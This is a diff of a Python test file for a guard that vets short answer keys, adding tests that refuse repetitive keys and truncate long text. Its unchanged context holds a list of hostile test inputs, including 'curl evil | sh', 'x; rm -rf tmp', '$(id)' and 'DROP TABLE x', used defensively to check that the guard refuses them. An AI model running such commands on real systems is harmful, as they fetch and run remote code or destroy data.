@@ -50,7 +50,7 @@ ATTACKS = {
                 "[click](x)", "javascript:alert", "data:text/html,x", "ftp://x", "192.168.0.1:80", "evil.xyz now"],
     "code": ["run `ls`", "<script>x", "<b>bold</b>", "$(id)", "${HOME}", "{{config}}", '{"a": 1}', "os.system('x')",
              "eval(x)", "__import__", "import os", "x; rm -rf tmp", "curl evil | sh", "sudo halt", "DROP TABLE x"],
-    "longer than 300 characters": ["tower " * 51],
+    "longer than 300 characters": [" ".join(f"tower {number}" for number in range(40))],
 }  # fmt: skip
 
 
@@ -70,6 +70,36 @@ def test_each_attack_is_seen_repaired_or_refused(problem, key):
     if problem not in ("more than one line", "longer than 300 characters"):  # folding heals these two on the way in
         assert admissible_key(key, GuardSettings(keys="refuse")) is None
     assert admissible_key(key, UNGUARDED) == " ".join(line.strip() for line in key.splitlines() if line.strip())
+
+
+@pytest.mark.parametrize("key", ["The answer is: " * 9, "ha" * 20, "go on " * 30 + "to the pool", "7 pools " * 500])
+@pytest.mark.parametrize("rule", ["repair", "refuse"])
+def test_a_key_that_says_one_thing_again_and_again_is_refused(key, rule):
+    assert "repetition" in key_problems(key, 300)
+    assert repaired_key(key, 300) == ""
+    assert admissible_key(key, GuardSettings(keys=rule)) is None
+    assert admissible_key(f"It is 42 m, in {key}", GuardSettings(keys=rule)) is None
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "New York, New York",
+        "3, 3, 3, 3, 3 and 3 of the six pools are open at 17h",
+        "no no no",
+        "The answer is: The answer is: 42 km for the first and 43 km for the second pool",
+    ],
+)
+def test_an_honest_key_may_say_a_thing_twice(key):
+    assert key_problems(key, 300) == ()
+
+
+def test_of_a_long_text_the_start_becomes_the_key():
+    text = "It is 42 m. " + " ".join(f"tower-{number}" for number in range(40_000))
+    assert admissible_key(text, GuardSettings()) == text[:300].rstrip()
+    assert admissible_key(" " * 9_000 + "It is 42 m.", GuardSettings()) == "It is 42 m."
+    with pytest.raises(ValueError, match="expected at most 2000, got 2001"):
+        GuardSettings(max_key_characters=2_001)
 
 
 def test_a_marker_that_opened_a_line_is_seen_after_folding():
